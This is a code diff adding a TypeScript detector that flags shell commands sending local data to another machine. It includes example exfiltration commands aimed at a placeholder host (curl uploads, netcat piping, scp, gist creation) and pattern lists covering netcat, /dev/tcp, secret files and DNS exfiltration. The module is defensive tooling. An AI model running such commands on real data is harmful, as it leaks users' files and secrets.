@@ -1,0 +1,183 @@
+// The capability of sending local data to another machine.
+
+import { type SimpleCommand, textsOf } from '../../../shell/command-line.ts';
+import { isSecret } from '../../../shell/places.ts';
+import { defineCapability } from '../../capability.ts';
+import { mentionedFiles } from '../../files.ts';
+import { isDownload, LOOPBACK, staysLocal } from '../../flows.ts';
+import { hasOption, onlyAsks, operandsOf, startsWith, valueAfter } from '../../words.ts';
+
+/** Commands whose output says nothing about this machine's data. */
+const SAYS_NOTHING = /^(?:|echo|printf|yes|seq|true|date|:|cd|jq|sleep|curl|wget|test|\[)$/;
+
+export const dataUpload = defineCapability({
+  id: 'data-upload',
+  title: 'sends local data to another machine',
+  rationale: 'What has left the machine cannot be called back.',
+  tier: 3,
+  safer: 'Show a person what would be sent and where, and let them send it.',
+  attack: ['T1041', 'T1048', 'T1567'],
+  examples: {
+    has: [
+      'curl -d @notes.txt https://example.invalid',
+      'curl -T build.log https://example.invalid',
+      'cat notes.txt | nc example.invalid 4444',
+      'scp report.pdf me@example.invalid:',
+      'tar c . | ssh host "cat > x"',
+      'curl "https://example.invalid/?q=$(cat notes.txt)"',
+      'gh gist create notes.txt',
+    ],
+    lacks: [
+      'curl https://example.invalid',
+      'curl -d \'{"a":1}\' http://localhost:3000',
+      'scp me@example.invalid:report.pdf .',
+      'cat notes.txt | wc -l',
+      'aws s3 cp s3://bucket/key .',
+    ],
+  },
+  detect(command) {
+    if (onlyAsks(command) || staysLocal(command)) return undefined;
+    return sendsFile(command) ||
+      sendsInput(command) ||
+      sendsOutput(command) ||
+      copiesAway(command) ||
+      sharesFile(command)
+      ? true
+      : undefined;
+  },
+});
+
+/** A file is named as the body of a request. */
+function sendsFile(command: SimpleCommand): boolean {
+  const texts = textsOf(command).map((text) =>
+    command.inputText !== undefined && !readsFiles(command) ? text.replace(/@-$/, '') : text,
+  );
+  switch (command.program) {
+    case 'curl':
+      return (
+        hasOption(command, 'T', 'upload-file') ||
+        texts.some(
+          (text, index) =>
+            /^(?:-d|--data(?:-binary|-raw|-ascii|-urlencode)?|-F|--form|--json)$/.test(texts[index - 1] ?? '') &&
+            /^(?:[\w.-]{0,60}=?)[@<]./.test(text) &&
+            texts[index - 1] !== '--data-raw',
+        ) ||
+        texts.some((text) => /^(?:-d@|-F\S{0,60}=[@<]|--(?:data(?:-binary)?|json|form)=(?:[\w.-]{0,60}=)?@)/.test(text))
+      );
+    case 'wget':
+      return texts.some((text) => /^--(?:post|body)-file/.test(text));
+    case 'http':
+    case 'https':
+    case 'xh':
+      return (
+        texts.some((text) => /@[\w./~-]/.test(text) && !/^[a-z]+:\/\//.test(text)) ||
+        command.redirects.some(({ operator }) => operator === '<')
+      );
+    default:
+      return false;
+  }
+}
+
+/** Whether what comes in on standard input is a file's content, not text of the line itself. */
+function readsFiles({ input }: SimpleCommand): boolean {
+  return input.some(
+    (before) => !SAYS_NOTHING.test(before.program) && !(before.program === 'cat' && before.words.length === 0),
+  );
+}
+
+const SENDERS =
+  /^(?:nc|ncat|netcat|socat|telnet|ssh|mail|mailx|sendmail|mutt|curl|wget|http|https|xh|openssl|ftp|lftp|tftp|sftp|smbclient|rclone|aws|gsutil|s3cmd|termbin|croc|wormhole|transfer|kafka-console-producer|mosquitto_pub|nsupdate|logger|gh|slack|aplay)$/;
+
+/** Data comes in on standard input and goes out to a host. */
+function sendsInput(command: SimpleCommand): boolean {
+  const { program, input, redirects } = command;
+  if (redirects.some(({ operator, target }) => /^>/.test(operator) && /^\/dev\/(?:tcp|udp)\//.test(target.text)))
+    return true;
+  if (command.inputText !== undefined && !readsFiles(command)) return false;
+  const fed =
+    input.some((before) => !SAYS_NOTHING.test(before.program)) || redirects.some(({ operator }) => operator === '<');
+  if (!fed || !SENDERS.test(program)) return false;
+  if (program === 'curl' || program === 'wget')
+    return textsOf(command).some((text) => /^(?:@-|-T-?|.*=@-|--post-file=.*|-)$/.test(text));
+  if (program === 'openssl') return startsWith(command, 'openssl s_client');
+  if (/^(?:aws|gsutil|s3cmd|rclone|gh)$/.test(program))
+    return textsOf(command).some((text) => text === '-' || text === 'rcat');
+  return program !== 'logger' || textsOf(command).some((text) => /^(?:-n|--server)/.test(text));
+}
+
+/** The output of a command becomes part of an address, a request or a name lookup. */
+function sendsOutput(command: SimpleCommand): boolean {
+  if (!isDownload(command) && !/^(?:ping|mail)$/.test(command.program)) return false;
+  if (/^(?:ping|dig|host|nslookup)$/.test(command.program))
+    return command.words.some(({ from }) =>
+      from.some((source) => /^(?:base64|base32|xxd|od|hexdump|tar|gzip)$/.test(source.program)),
+    );
+  if (/^(?:aws|kubectl|gcloud|az|gh|openssl|ssh|scp|rsync|git)$/.test(command.program)) return false;
+  return command.words.some(({ from }) =>
+    from.some(
+      (source) =>
+        source.program === 'env' ||
+        source.program === 'printenv' ||
+        mentionedFiles(source).some(({ path }) => path !== undefined && isSecret(path)) ||
+        /^(?:cat|base64|tar|xxd|gzip|zip|head|tail|od|hexdump|sqlite3|pbpaste|xclip|history|find|grep|less|dd)$/.test(
+          source.program,
+        ),
+    ),
+  );
+}
+
+const REMOTE = /^(?:[\w.-]{1,64}@)?[\w.-]{2,100}:(?!\\)|^(?:s3|gs|b2|gcs|azure|sftp|ftp|rsync|https?|oci|r2):\/\//;
+
+/** Copies whose target is elsewhere and whose source is here. */
+function copiesAway(command: SimpleCommand): boolean {
+  const operands = operandsOf(command).map((word) => word.text);
+  const last = operands.at(-1) ?? '';
+  const isHere = (text: string | undefined) => text !== undefined && !REMOTE.test(text);
+  if (hasOption(command, '', 'dry-run', 'dryrun') || (command.program === 'rsync' && hasOption(command, 'n')))
+    return false;
+  if (/^(?:scp|rsync)$/.test(command.program))
+    return operands.length > 1 && REMOTE.test(last) && !LOOPBACK.test(last) && isHere(operands[0]);
+  if (
+    startsWith(
+      command,
+      'aws s3 cp|sync|mv',
+      'gsutil cp|rsync|mv',
+      's3cmd put|sync',
+      'az storage blob|file upload|upload-batch',
+      'gcloud storage cp|rsync',
+      'rclone copy|sync|move|copyto|moveto',
+      'azcopy copy|cp|sync',
+      'mc cp|mirror',
+      'b2 upload-file|sync',
+    )
+  ) {
+    const named = operands.slice(1).filter((text) => /[/.:]/.test(text));
+    return (
+      (REMOTE.test(last) || command.program === 'az' || command.program === 's3cmd') &&
+      (isHere(named[0]) || named.length < 2)
+    );
+  }
+  return /^(?:tftp|smbclient)$/.test(command.program) && operands.some((text) => /\bput\b/.test(text));
+}
+
+/** Services whose only use is to share a file with others. */
+function sharesFile(command: SimpleCommand): boolean {
+  if (
+    startsWith(
+      command,
+      'gh gist create',
+      'croc send',
+      'wormhole send',
+      'ffsend upload',
+      'gh release upload',
+      'glab snippet create',
+      'magic-wormhole send',
+      'kubectl cp',
+      'docker cp',
+    )
+  )
+    return !/^(?:kubectl|docker)$/.test(command.program);
+  if (/^(?:mail|mailx|mutt)$/.test(command.program))
+    return hasOption(command, 'aA') || valueAfter(command, '--attach') !== undefined;
+  return /^(?:termbin|pastebinit|transfer|gist)$/.test(command.program);
+}
